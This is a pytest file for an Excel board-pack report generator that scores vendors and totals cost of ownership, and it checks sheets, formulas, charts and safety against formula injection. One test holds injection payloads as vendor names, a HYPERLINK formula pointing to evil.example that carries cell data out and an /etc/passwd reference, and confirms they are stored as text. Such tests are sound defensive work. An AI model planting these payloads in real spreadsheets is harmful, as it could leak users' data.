"""The workbook: every sheet opens, formulas recompute to the engine's figures, no injection."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from computescore.reports.excel import (
    QUOTE_FIELDS,
    SCORES_FIRST_ROW,
    SCORES_WEIGHT_ROW,
    render_xlsx,
)
from computescore.reports.model import AXES, BoardPack
from computescore.reports.safe import EXCEL_MAX_CELL_CHARS, CellTextTooLong, excel_text
from computescore.vocabulary import LINE_FIELD_TITLES, deployment_text
from tests.reports.formula_eval import FormulaEvaluator

SHEETS = [
    "Summary",
    "Scores",
    "Plan",
    "TCO lines",
    "TCO",
    "Quotes",
    "Findings",
    "Exit terms",
    "Sensitivity",
    "Assumptions",
]

# Every formula the workbook may hold, by shape; vendor text can never match these.
OUR_FORMULAS = [
    re.compile(r"=SUM\(\$D\$4:\$H\$4\)"),
    re.compile(r"=SUMPRODUCT\(D(\d+):H\1,\$D\$4:\$H\$4\)/SUM\(\$D\$4:\$H\$4\)"),
    re.compile(
        r'=IF\(\$J(\d+)="Yes","",COUNTIFS\(\$J\$\d+:\$J\$\d+,"No",\$I\$\d+:\$I\$\d+,">"&\$I\1\)\+1\)'
    ),
    re.compile(r"=SUMIFS\('TCO lines'!\$E\$4:\$E\$\d+,'TCO lines'!\$A\$4:\$A\$\d+,\$A\d+\)"),
    re.compile(r"=C(\d+)/F\1"),
    re.compile(r"=ABS\(E(\d+)-D\1\)"),
    re.compile(r"=F(\d+)\*H\1\+I\1"),
    re.compile(r"=SUM\(J\d+:J\d+\)"),
    re.compile(r"=SUMIFS\(\$J\$\d+:\$J\$\d+,\$C\$\d+:\$C\$\d+,\$A\d+\)"),
    re.compile(r"=IF\(\$J\$(\d+)=0,0,C(\d+)/\$J\$\1\)"),
]


def _load(data: bytes, formulas: bool = True):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(data), data_only=not formulas)


def test_every_sheet_opens(pack_xlsx: bytes) -> None:
    wb = _load(pack_xlsx)
    assert wb.sheetnames == SHEETS
    for name in SHEETS:
        assert wb[name].max_row >= 2, name


def test_scores_formulas_recompute_to_the_engine_totals_and_ranks(
    pack: BoardPack, pack_xlsx: bytes
) -> None:
    assert pack.ranking is not None
    wb = _load(pack_xlsx)
    ev = FormulaEvaluator(wb)
    for index, row in enumerate(pack.ranking.rows):
        r = SCORES_FIRST_ROW + index
        assert wb["Scores"][f"B{r}"].value == row.vendor
        total = ev.value("Scores", f"I{r}")
        assert total == pytest.approx(row.weighted_total, abs=1e-9)
        rank = ev.value("Scores", f"A{r}")
        assert (rank if rank != "" else None) == row.rank


def test_changing_a_weight_in_excel_moves_the_ranking(pack: BoardPack, pack_xlsx: bytes) -> None:
    assert pack.ranking is not None and pack.ranking.flips
    flip = pack.ranking.flips[0]
    wb = _load(pack_xlsx)
    ev = FormulaEvaluator(wb)
    column = "DEFGH"[AXES.index(flip.axis)]
    # Move the weight just past the flip point, the others unchanged: the sheet divides by
    # the sum, which is the same rescaling the engine's flip search uses.
    past = flip.weight_to + (0.02 if flip.weight_to > flip.weight_from else -0.02)
    others = 1 - flip.weight_from
    for axis, weight in pack.ranking.weights:
        col = "DEFGH"[AXES.index(axis)]
        new = past if axis == flip.axis else weight * (1 - past) / others
        ev.set("Scores", f"{col}{SCORES_WEIGHT_ROW}", new)
    assert ev.value("Scores", f"{column}{SCORES_WEIGHT_ROW}") == past
    leader_rows = [
        SCORES_FIRST_ROW + i
        for i in range(len(pack.ranking.rows))
        if ev.value("Scores", f"A{SCORES_FIRST_ROW + i}") == 1
    ]
    assert len(leader_rows) == 1
    new_leader = pack.ranking.rows[leader_rows[0] - SCORES_FIRST_ROW]
    assert new_leader.label == flip.new_leader


def test_tco_totals_are_sums_of_the_lines(pack: BoardPack, pack_xlsx: bytes) -> None:
    wb = _load(pack_xlsx)
    ev = FormulaEvaluator(wb)
    for number, item in enumerate(pack.tco, start=1):
        r = 4 + number
        assert wb["TCO"][f"B{r}"].value == item.label
        assert ev.value("TCO", f"C{r}") == pytest.approx(item.total_usd, rel=1e-12)
        if item.usd_per_used_gpu_hour is not None:
            assert ev.value("TCO", f"G{r}") == pytest.approx(item.usd_per_used_gpu_hour)


def test_quotes_sheet_has_every_canonical_field_and_line(pack: BoardPack, pack_xlsx: bytes) -> None:
    ws = _load(pack_xlsx)["Quotes"]
    assert [c.value for c in ws[1]] == [LINE_FIELD_TITLES[name] for name in QUOTE_FIELDS]
    assert ws["A1"].value == "Vendor" and ws["P1"].value == "Price per"
    assert ws.auto_filter.ref == f"A1:U{len(pack.lines) + 1}"
    assert ws.freeze_panes == "A2"
    assert ws.print_title_rows == "$1:$1"
    for index, line in enumerate(pack.lines, start=2):
        assert ws.cell(row=index, column=1).value == line.vendor
        assert str(ws.cell(row=index, column=15).value) == str(line.price) or float(
            ws.cell(row=index, column=15).value
        ) == float(line.price)
        assert ws.cell(row=index, column=21).value == line.source
        # Business words, not identifiers: "12-month reserved", "node-hour".
        if line.deployment:
            assert ws.cell(row=index, column=13).value == deployment_text(line.deployment)
        assert "_" not in str(ws.cell(row=index, column=16).value)


def test_summary_has_native_bar_and_radar_charts(pack_xlsx: bytes) -> None:
    names = zipfile.ZipFile(io.BytesIO(pack_xlsx)).namelist()
    charts = [n for n in names if n.startswith("xl/charts/chart")]
    assert len(charts) == 2
    archive = zipfile.ZipFile(io.BytesIO(pack_xlsx))
    xml = b"".join(archive.read(n) for n in charts)
    assert b"<barChart>" in xml
    assert b"<radarChart>" in xml
    assert b"Scores!$I$7" in xml or b"'Scores'!$I$7" in xml


def test_number_formats_carry_currency(pack_xlsx: bytes) -> None:
    wb = _load(pack_xlsx)
    assert wb["TCO"]["C5"].number_format == '"$"#,##0'
    assert wb["TCO lines"]["E4"].number_format == '"$"#,##0'
    assert wb["Scores"]["D4"].number_format == "0.000"


def test_identical_packs_give_identical_workbooks(pack: BoardPack, pack_xlsx: bytes) -> None:
    assert render_xlsx(pack) == pack_xlsx
    core = zipfile.ZipFile(io.BytesIO(pack_xlsx)).read("docProps/core.xml")
    assert b"2026-09-28T00:00:00Z" in core


def _formula_cells(data: bytes) -> list[tuple[str, str]]:
    """Every <f> element in every sheet's XML, with the sheet part name."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    found = []
    for name in archive.namelist():
        if name.startswith("xl/worksheets/sheet"):
            xml = archive.read(name).decode()
            found += [(name, f) for f in re.findall(r"<f>(.*?)</f>", xml)]
    return found


def test_hostile_names_read_back_as_text_and_never_as_formulas(
    hostile_pack: BoardPack, hostile_xlsx: bytes
) -> None:
    import html

    for part, formula in _formula_cells(hostile_xlsx):
        text = "=" + html.unescape(formula)
        assert any(p.fullmatch(text) for p in OUR_FORMULAS), (part, text)
    wb = _load(hostile_xlsx)
    ws = wb["Scores"]
    assert hostile_pack.ranking is not None
    for index, row in enumerate(hostile_pack.ranking.rows):
        cell = ws.cell(row=SCORES_FIRST_ROW + index, column=2)
        assert cell.data_type == "s"
        assert cell.value == excel_text(row.vendor).replace("\r", "\n")
        if row.vendor.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell.quotePrefix
    quotes = wb["Quotes"]
    vendors = {quotes.cell(row=r, column=1).value for r in range(2, quotes.max_row + 1)}
    assert '=HYPERLINK("http://evil.example/?x="&A1,"Click")' in vendors
    assert '#N/A Servers <img src="/etc/passwd"/>' in vendors
    for r in range(2, quotes.max_row + 1):
        assert quotes.cell(row=r, column=1).data_type == "s"


def test_quote_prefix_is_in_the_styles(hostile_xlsx: bytes) -> None:
    styles = zipfile.ZipFile(io.BytesIO(hostile_xlsx)).read("xl/styles.xml")
    assert b'quotePrefix="1"' in styles


def test_text_longer_than_a_cell_is_refused_not_truncated(pack: BoardPack) -> None:
    long_line = replace(pack.lines[0], description="x" * (EXCEL_MAX_CELL_CHARS + 5))
    with pytest.raises(CellTextTooLong, match="32,772 characters"):
        render_xlsx(replace(pack, lines=(long_line, *pack.lines[1:])))


def test_missing_sections_say_so(bare_pack: BoardPack) -> None:
    wb = _load(render_xlsx(bare_pack))
    texts = {
        str(cell.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    }
    for sentence in [
        "The scorecard has not been computed for this evaluation.",
        "Total cost of ownership not computed for this evaluation.",
        "Compliance checks not run for this evaluation.",
        "Monte Carlo not run for this evaluation.",
        "Sensitivity analysis not run for this evaluation.",
        "Break-even curve not computed for this evaluation (no owned and rented option to "
        "compare).",
        "No quote lines were recorded for this evaluation.",
    ]:
        assert sentence in texts, sentence
